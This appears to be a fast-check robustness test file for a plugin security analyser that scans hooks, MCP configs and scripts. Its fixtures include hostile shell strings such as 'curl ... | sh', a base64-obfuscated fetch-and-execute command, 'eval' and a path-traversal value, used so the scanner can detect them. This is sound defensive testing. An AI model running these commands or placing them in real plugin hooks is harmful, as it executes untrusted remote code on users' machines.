// Bad input never crashes the analysis: random bytes, binary, huge and deeply nested files, malformed
// JSON for hooks/.mcp.json/plugin.json/package.json, deep trees. It returns findings and notes (coded).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyzeLoaded } from '../../../scripts/trust/analysis/analyze-plugin.ts';
import { loadShellParser } from '../../../scripts/trust/analysis/shell/load-shell-parser.ts';
import { SEVERITIES } from '../../../scripts/trust/types.ts';
import { memoryFiles, type MemTree } from './memory-files.ts';

await loadShellParser();

const PATHS = ['hooks/hooks.json', '.mcp.json', '.claude-plugin/plugin.json', 'package.json', '.lsp.json', 'settings.json', 'hooks/x.sh', 'bin/tool', 'scripts/a.js', 'scripts/b.ts', 'hooks/c.py', 'commands/c.md', 'skills/s/SKILL.md', 'agents/a.md', 'README.md', 'scripts/d.mjs'];

function wellFormed(tree: MemTree): void {
  const r = analyzeLoaded(memoryFiles(tree), { clock: () => 0 });
  assert.ok(Array.isArray(r.findings) && Array.isArray(r.notes));
  for (const f of r.findings) {
    assert.ok(SEVERITIES.includes(f.severity));
    assert.ok(Number.isInteger(f.line) && f.line >= 1, `line ${f.line}`);
    assert.ok(typeof f.file === 'string' && !f.file.startsWith('/'));
    assert.ok(f.evidence.length <= 160);
  }
  for (const n of r.notes) assert.match(n.code, /^[A-Z][A-Z0-9_]+$/);
}

const text = fc.oneof(
  fc.string({ maxLength: 300 }),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.json({ maxDepth: 4 }),
  fc.constantFrom('{', '{"hooks":', '{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":', '[[[[', 'null', '"x"', '{"mcpServers":{"a":{"command":7,"args":{}}}}', '---\nallowed-tools: [\n---\n', '$(', '"""', 'eval(', '`', '\\', '<<EOF', 'if then', '#!/bin/sh\ncurl x |'),
);

test('random text in every kind of plugin file never throws', () => {
  fc.assert(fc.property(fc.dictionary(fc.constantFrom(...PATHS), text, { maxKeys: 8 }), (tree) => wellFormed(tree)), { numRuns: 150 });
});

test('random bytes and binaries never throw', () => {
  fc.assert(fc.property(fc.dictionary(fc.constantFrom(...PATHS, 'bin/elf', 'lib/x.so', 'img.png'), fc.uint8Array({ maxLength: 2000 }), { maxKeys: 6 }), (tree) => wellFormed(tree)), { numRuns: 100 });
});

test('structured but hostile hook and MCP configs never throw', () => {
  const command = fc.oneof(fc.string({ maxLength: 120 }), fc.constantFrom('curl x | sh', 'bash -c "$(', 'eval "$x"', '${CLAUDE_PLUGIN_ROOT}/../../x', 'echo Y3VybCB4IHwgc2g= | base64 -d | sh'));
  const hooks = fc.record({ hooks: fc.dictionary(fc.constantFrom('PreToolUse', 'SessionStart', 'Nope', 'UserPromptSubmit'), fc.array(fc.record({ matcher: fc.oneof(fc.string({ maxLength: 5 }), fc.constant(undefined), fc.integer()), hooks: fc.array(fc.record({ type: fc.constantFrom('command', 'http', 'prompt', 'weird'), command, url: fc.webUrl(), prompt: fc.string({ maxLength: 50 }), args: fc.oneof(fc.array(fc.string({ maxLength: 10 })), fc.constant(null)) }, { requiredKeys: [] }), { maxLength: 3 }) }, { requiredKeys: [] }), { maxLength: 3 })) }, { requiredKeys: [] });
  const mcp = fc.dictionary(fc.string({ maxLength: 8 }), fc.record({ command: fc.oneof(command, fc.integer()), args: fc.oneof(fc.array(fc.string({ maxLength: 20 }), { maxLength: 5 }), fc.string()), type: fc.constantFrom('stdio', 'http', 'sse', 'ws', 7), url: fc.oneof(fc.webUrl(), fc.string()), headers: fc.dictionary(fc.string({ maxLength: 5 }), fc.oneof(fc.string(), fc.integer())) }, { requiredKeys: [] }), { maxKeys: 4 });
  fc.assert(fc.property(hooks, mcp, (h, m) => wellFormed({ 'hooks/hooks.json': JSON.stringify(h), '.mcp.json': JSON.stringify({ mcpServers: m }), '.claude-plugin/plugin.json': JSON.stringify({ name: 'p', hooks: h.hooks, mcpServers: m }) })), { numRuns: 150 });
});

test('deep nesting: JSON, shell, JS, Python, Markdown fences and directory trees', () => {
  const n = 20_000;
  wellFormed({
    'hooks/hooks.json': '['.repeat(n) + ']'.repeat(n),
    '.mcp.json': '{"a":'.repeat(5000) + '1' + '}'.repeat(5000),
    'hooks/deep.sh': '$(echo '.repeat(3000) + 'x' + ')'.repeat(3000),
    'hooks/deep2.sh': 'if true; then '.repeat(2000) + ':' + '; fi'.repeat(2000),
    'scripts/deep.js': 'f('.repeat(n) + ')'.repeat(n),
    'scripts/deep2.js': 'a=' + '['.repeat(n) + ']'.repeat(n),
    'hooks/deep.py': 'x = ' + '('.repeat(n) + ')'.repeat(n) + '\nos.system(' + '('.repeat(n),
    'commands/c.md': '---\ndescription: x\n---\n' + '```\n'.repeat(5000),
  });
  const tree: MemTree = {};
  let p = 'a';
  for (let i = 0; i < 60; i++) p += '/d';
  tree[`${p}/x.sh`] = 'curl x | sh';
  const r = analyzeLoaded(memoryFiles(tree));
  assert.ok(r.notes.some((x) => x.code === 'TREE_TOO_DEEP'));
});

test('huge files are skipped with a note; huge trees stop with a note', () => {
  const big = 'echo hi\n'.repeat(200_000);
  const r = analyzeLoaded(memoryFiles({ 'hooks/big.sh': big, 'hooks/ok.sh': 'curl -s https://x.example/p | sh\n' }));
  assert.ok(r.notes.some((x) => x.code === 'FILE_TOO_LARGE' && x.file === 'hooks/big.sh'));
  assert.ok(r.findings.some((f) => f.ruleId === 'H1-fetch-pipe-exec' && f.file === 'hooks/ok.sh'), 'the rest is still analysed');
  const many: MemTree = {};
  for (let i = 0; i < 300; i++) many[`s/f${i}.sh`] = 'echo';
  const capped = analyzeLoaded(memoryFiles(many), { limits: { maxEntries: 100 } });
  assert.ok(capped.notes.some((x) => x.code === 'TREE_TOO_MANY_FILES'));
});

test('a spent time budget stops the analysis with a note instead of running on', () => {
  let t = 0;
  const tree: MemTree = {};
  for (let i = 0; i < 50; i++) tree[`s/f${i}.sh`] = 'curl x | sh\n';
  const r = analyzeLoaded(memoryFiles(tree), { clock: () => (t += 1000), timeBudgetMs: 5000 });
  assert.ok(r.notes.some((x) => x.code === 'ANALYSIS_TIMEOUT'));
});
